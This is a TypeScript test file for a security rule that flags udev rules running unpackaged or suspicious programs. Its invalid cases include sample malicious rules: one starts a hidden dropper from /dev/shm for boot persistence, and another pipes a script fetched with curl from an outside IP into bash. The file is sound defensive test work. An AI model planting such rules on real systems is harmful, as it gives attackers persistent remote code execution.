import type { UdevRulesFile } from '../../collect/hooks/udev-rules';
import { udevCommands } from '../../collect/hooks/udev-rules';
import { configFile, dpkgOwning } from '../../../test/helpers/hook-facts';
import { testRule } from '../../../test/helpers/rule-tester';
import rule from './udev-run-program';

/** Every program named exists unless listed in `missing`. */
function rules(path: string, text: string, overridden = false, missing: string[] = []): UdevRulesFile {
  const f = configFile(path, text);
  return { path, mtime: f.mtime, commands: f.lines.flatMap((l) => udevCommands(l.n, l.text, (p) => !missing.includes(p))), overridden };
}

const STOCK = [
  rules(
    '/usr/lib/udev/rules.d/85-hwclock.rules',
    'ACTION=="add", SUBSYSTEM=="rtc", KERNEL=="rtc0", RUN+="/usr/lib/udev/hwclock-set $root/$name"\n',
  ),
  rules(
    '/usr/lib/udev/rules.d/99-systemd.rules',
    'SUBSYSTEM=="net", KERNEL!="lo", RUN+="/lib/systemd/systemd-sysctl --prefix=/net/ipv4/conf/$name"\nSUBSYSTEM=="module", KERNEL=="bridge", RUN{builtin}+="kmod load br_netfilter"\nACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/udevadm trigger --parent-match=%p/.."\n',
  ),
  rules(
    '/usr/lib/udev/rules.d/55-dm.rules',
    'ENV{DM_COOKIE}=="?*", IMPORT{program}="/sbin/dmsetup udevflags $env{DM_COOKIE}"\nIMPORT{db}="DM_UDEV_RULES"\n',
  ),
  rules(
    '/usr/lib/udev/rules.d/60-block.rules',
    'ACTION=="add", SUBSYSTEM=="block", RUN+="/bin/sh -c \'echo 1 > /sys$devpath/queue/iosched/low_latency\'"\n',
  ),
];
const PKGS = dpkgOwning(
  ...STOCK.map((f) => f.path),
  '/usr/lib/udev/hwclock-set',
  '/lib/systemd/systemd-sysctl',
  '/bin/udevadm',
  '/sbin/dmsetup',
  '/bin/sh',
);

testRule(rule, {
  valid: [
    { name: 'packaged rules calling packaged helpers, builtins and shells', facts: { udevRules: { files: STOCK }, packages: PKGS } },
    {
      name: 'hand-written permission rule without RUN is not collected; one calling a packaged tool is fine',
      facts: {
        udevRules: {
          files: [
            ...STOCK,
            rules(
              '/etc/udev/rules.d/70-nic.rules',
              'ACTION=="add", SUBSYSTEM=="net", NAME=="eth0", RUN+="/lib/systemd/systemd-sysctl --prefix=/net/ipv4/conf/eth0"\n',
            ),
          ],
        },
        packages: PKGS,
      },
    },
    {
      name: 'packaged rule naming a tool that is not installed (systemd 71-seat.rules without udev)',
      facts: {
        udevRules: {
          files: [
            rules('/usr/lib/udev/rules.d/71-seat.rules', 'SUBSYSTEM=="input", RUN+="/bin/udevadm trigger --parent-match=%p/.."\n', false, [
              '/bin/udevadm',
            ]),
          ],
        },
        packages: dpkgOwning('/usr/lib/udev/rules.d/71-seat.rules'),
      },
    },
    {
      name: 'overridden packaged file is never read by udev',
      facts: {
        udevRules: { files: [rules('/usr/lib/udev/rules.d/99-x.rules', 'RUN+="/usr/local/bin/old-tool"\n', true)] },
        packages: PKGS,
      },
    },
  ],
  invalid: [
    {
      name: 'network add event runs a dropper from /dev/shm (boot persistence)',
      facts: {
        udevRules: {
          files: [
            ...STOCK,
            rules(
              '/etc/udev/rules.d/75-net.rules',
              'ACTION=="add", SUBSYSTEM=="net", KERNEL=="eth*", RUN+="/bin/sh -c \'/dev/shm/.x/kw &\'"\n',
            ),
          ],
        },
        packages: PKGS,
      },
      expect: [
        {
          severity: 'critical',
          path: '/etc/udev/rules.d/75-net.rules',
          title: /runs \/dev\/shm\/\.x\/kw/,
          evidence: /75-net\.rules:1: ACTION=="add"/,
        },
      ],
    },
    {
      name: 'random-device rule downloading a payload with curl | sh',
      facts: {
        udevRules: {
          files: [
            rules(
              '/lib/udev/rules.d/99-sys.rules',
              'ACTION=="add", KERNEL=="random", RUN+="/bin/bash -c \'curl -s http://203.0.113.4/s | bash\'"\n',
            ),
          ],
        },
        packages: PKGS,
      },
      expect: [{ severity: 'critical', evidence: /matches: downloads a script/ }],
    },
    {
      name: 'unpackaged program and a hand-written shell rule are medium',
      facts: {
        udevRules: {
          files: [
            rules(
              '/etc/udev/rules.d/90-backup.rules',
              'ACTION=="add", SUBSYSTEM=="block", ENV{ID_FS_LABEL}=="BACKUP", RUN+="/usr/local/bin/usb-backup.sh %k"\nACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \'logger usb-added\'"\n',
            ),
          ],
        },
        packages: PKGS,
      },
      expect: [
        { severity: 'medium', title: /\/usr\/local\/bin\/usb-backup\.sh/ },
        { severity: 'medium', title: /\/bin\/sh, which is not from a package/ },
      ],
    },
  ],
});
